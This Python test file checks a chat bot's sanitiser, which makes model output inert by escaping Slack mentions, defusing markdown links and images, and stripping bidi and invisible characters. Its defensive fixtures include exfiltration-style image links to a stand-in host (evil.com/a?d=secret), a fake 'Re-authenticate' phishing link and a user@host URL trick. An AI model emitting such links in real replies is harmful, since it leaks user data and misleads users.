"""Nothing that the model repeats can notify anyone, be clicked, or hide."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.reply.inert import Inert, inert

ALLOWED = frozenset({"wiki.example.com"})


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("hey <!channel> and <!here>", "hey &lt;!channel> and &lt;!here>"),
        ("ask <@U123> in <#C1|x>, <!subteam^S1>", "ask &lt;@U123> in &lt;#C1|x>, &lt;!subteam^S1>"),
        ("in code `<!everyone>`", "in code `&lt;!everyone>`"),
        ("![chart](https://evil.com/a?d=secret) end", "[chart] (`evil.com/a?d=secret`) end"),
        ("[click here](https://evil.com) now", "[click here] (`evil.com`) now"),
        ("[click here]( https://evil.com)", "[click here] ( `evil.com`)"),
        ("[x](<https://evil.com>)", "[x] (&lt;`evil.com`>)"),
        ("[x](//evil.com)", "[x] (//evil.com)"),
        ("[text][r]\n[r]: https://evil.com/x", "[text][r]\n[r] : `evil.com/x`"),
        ("<https://evil.com|Re-authenticate>", "&lt;`evil.com`|Re-authenticate>"),
        ("see https://evil.com.", "see `evil.com`."),
        ("www.evil.com, xn--pple-43d.com", "`www.evil.com`, `xn--pple-43d.com`"),
        ("evil.com/x?d=1", "`evil.com/x?d=1`"),
        ("`https://evil.com` and `go to https://evil.com now`", "`evil.com` and `go to evil.com now`"),
        ("```\nselect 'https://evil.com'\n```\nhttps://evil.com", "```\nselect 'evil.com'\n```\n`evil.com`"),
        ("[guide](https://wiki.example.com/a) ok", "[guide](https://wiki.example.com/a) ok"),
        ("https://wiki.example.com@evil.com/", "`wiki.example.com@evil.com/`"),
        ("https://wiki.example.com/a)(https://evil.com", "`wiki.example.com/a)(https evil.com`"),
        ("https://notwiki.example.com", "`notwiki.example.com`"),
        ("gpj\u202eexe \u200bzero\ufeff", "gpjexe zero"),
        ("t\U000e0041\U000e0042x", "tx"),
    ],
)
def test_what_could_act_is_shown_as_words(said: str, shown: str) -> None:
    assert inert(said, ALLOWED) == shown


@pytest.mark.parametrize(
    "text",
    [
        "Revenue was **€1,234.50** (up 3.2%).",
        "a < b and a<b and x <= y",
        "sales.orders.amount by customers.region, e.g. EMEA",
        "- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "```sql\nSELECT a[1] FROM t WHERE x < 3\n```",
        "مرحبا 👨\u200d👩\u200d👧 می\u200cخواهم 東京の売上",
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "5 > 3 & 2 > 1",
    ],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


PIECES = st.sampled_from(
    ["<!channel>", "<@U1>", "https://evil.com/x", "![a](https://evil.com)", "[b](evil.com/y)", " ", "\n", "`", "```",
     "word", "東京", "<", "](", "👨\u200d👩", "www.evil.com", "https://wiki.example.com/p", "[", ")",
     "!", "\u202e", ".", "\x1c", "\u200b"]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=14).map("".join), st.lists(st.integers(1, 9), min_size=1, max_size=40))
def test_chunks_give_the_same_as_the_whole_and_never_a_live_link(text: str, sizes: list[int]) -> None:
    stream, shown, start = Inert(ALLOWED), "", 0
    for size in sizes:
        shown += stream.feed(text[start : start + size])
        start += size
    shown += stream.feed(text[start:]) + stream.flush()
    assert shown == inert(text, ALLOWED)
    assert not re.search(r"<[@#!]|<[A-Za-z][A-Za-z0-9+.-]*:|https?://(?!wiki\.example\.com)|!\[|\u202e", shown)
    assert not re.search(r"\]\((?!https://wiki\.example\.com)", shown)


LONG = 200_000


@pytest.mark.parametrize("piece", ["a", "!", "a.", "a://", "<", "](", "`a.com/", ",xn-", "+a", "\u200b", "[a]("])
def test_one_unbroken_word_of_200_kb_is_made_inert_in_time_that_grows_with_its_length(piece: str) -> None:
    """Some of these took minutes when a pattern looked ahead from every character."""
    word = (piece * LONG)[:LONG]
    shown = inert(word, ALLOWED)
    assert "://" not in shown
    assert "](" not in shown
    assert inert(f"{word}https://evil.com/x", ALLOWED).count("https://") == 0


def test_a_scheme_behind_a_long_word_is_taken_off_all_the_same() -> None:
    assert "://" not in inert(f"{'a' * 500}://evil.com/x", ALLOWED)
